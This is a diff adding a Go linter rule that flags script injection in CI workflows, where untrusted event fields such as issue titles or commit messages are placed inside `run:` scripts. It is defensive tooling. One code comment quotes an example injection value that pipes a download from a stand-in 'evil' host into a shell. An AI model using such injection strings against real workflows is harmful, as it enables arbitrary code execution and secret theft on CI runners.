@@ -1,0 +1,126 @@
+package workflow
+
+import (
+	"fmt"
+	"strings"
+
+	"github.com/birdflock/runner/pkg/workflow/expr"
+)
+
+// untrusted are the values whoever opens an issue or a pull request,
+// comments, or names a branch controls, from actionlint's list of
+// untrusted inputs, plus the inputs of a dispatch (whoever may start the
+// workflow chooses them). "*" matches any one property or index.
+var untrusted = [][]string{
+	{"github", "head_ref"},
+	{"inputs", "*"},
+	{"github", "event", "inputs", "*"},
+	{"github", "event", "issue", "title"},
+	{"github", "event", "issue", "body"},
+	{"github", "event", "pull_request", "title"},
+	{"github", "event", "pull_request", "body"},
+	{"github", "event", "pull_request", "head", "ref"},
+	{"github", "event", "pull_request", "head", "label"},
+	{"github", "event", "pull_request", "head", "repo", "default_branch"},
+	{"github", "event", "comment", "body"},
+	{"github", "event", "review", "body"},
+	{"github", "event", "review_comment", "body"},
+	{"github", "event", "discussion", "title"},
+	{"github", "event", "discussion", "body"},
+	{"github", "event", "pages", "*", "page_name"},
+	{"github", "event", "commits", "*", "message"},
+	{"github", "event", "commits", "*", "author", "email"},
+	{"github", "event", "commits", "*", "author", "name"},
+	{"github", "event", "head_commit", "message"},
+	{"github", "event", "head_commit", "author", "email"},
+	{"github", "event", "head_commit", "author", "name"},
+	{"github", "event", "workflow_run", "head_branch"},
+	{"github", "event", "workflow_run", "head_commit", "message"},
+	{"github", "event", "workflow_run", "head_commit", "author", "email"},
+	{"github", "event", "workflow_run", "head_commit", "author", "name"},
+	{"github", "event", "workflow_run", "pull_requests", "*", "head", "ref"},
+}
+
+// isUntrusted reports whether an access reads an untrusted value or a
+// part of one.
+func isUntrusted(segs []string) bool {
+	for _, u := range untrusted {
+		if len(segs) < len(u) {
+			continue
+		}
+		ok := true
+		for i, s := range u {
+			if s != "*" && segs[i] != "*" && segs[i] != s {
+				ok = false
+				break
+			}
+		}
+		if ok {
+			return true
+		}
+	}
+	return false
+}
+
+// ruleInjection warns about untrusted values written into a `run:` script
+// with ${{ }}: the expression is replaced before the shell reads the
+// script, so a title like `"; curl evil | sh; "` runs (as on GitHub). The
+// fix is to pass the value through an environment variable, which the
+// shell does not parse as code.
+func ruleInjection(v *validator, w *Workflow) {
+	for _, j := range w.Jobs {
+		for _, s := range j.Steps {
+			if !s.Run.Set || !strings.Contains(s.Run.Raw, "${{") {
+				continue
+			}
+			t, err := expr.ParseTemplate(s.Run.Raw)
+			if err != nil {
+				continue // Validate reports it
+			}
+			for _, n := range t.Exprs() {
+				for _, p := range expr.Paths(n) {
+					if !isUntrusted(p.Segments) {
+						continue
+					}
+					v.warnf(offsetPos(s.Run, p.Offset), "injection",
+						"job %s step %d: %q is potentially untrusted and the shell runs whatever it holds: pass it through env (env: {%s: ${{ %s }}}) and use \"$%s\" in the script",
+						j.ID, s.Index+1, p.Text, envName(p.Segments), p.Text, envName(p.Segments))
+				}
+			}
+		}
+	}
+}
+
+// envName suggests a variable name for an access: its last property.
+func envName(segs []string) string {
+	for i := len(segs) - 1; i >= 0; i-- {
+		if segs[i] == "*" {
+			continue
+		}
+		name := strings.Map(func(r rune) rune {
+			if r >= 'a' && r <= 'z' || r >= '0' && r <= '9' {
+				return r - ('a'-'A')*(r/'a')
+			}
+			return '_'
+		}, segs[i])
+		if name[0] >= '0' && name[0] <= '9' {
+			name = "_" + name
+		}
+		return name
+	}
+	return "VALUE"
+}
+
+// Warnings lists what a valid workflow does that is risky, such as script
+// injection (ruleInjection). They are not errors: the workflow runs as
+// it would on GitHub.
+func Warnings(w *Workflow) Errors {
+	v := &validator{file: w.File}
+	ruleInjection(v, w)
+	v.errs.sort()
+	return v.errs
+}
+
+func (v *validator) warnf(pos Pos, kind, format string, args ...any) {
+	v.errs = append(v.errs, &Error{File: v.file, Pos: pos, Kind: kind, Message: fmt.Sprintf(format, args...), Warning: true})
+}
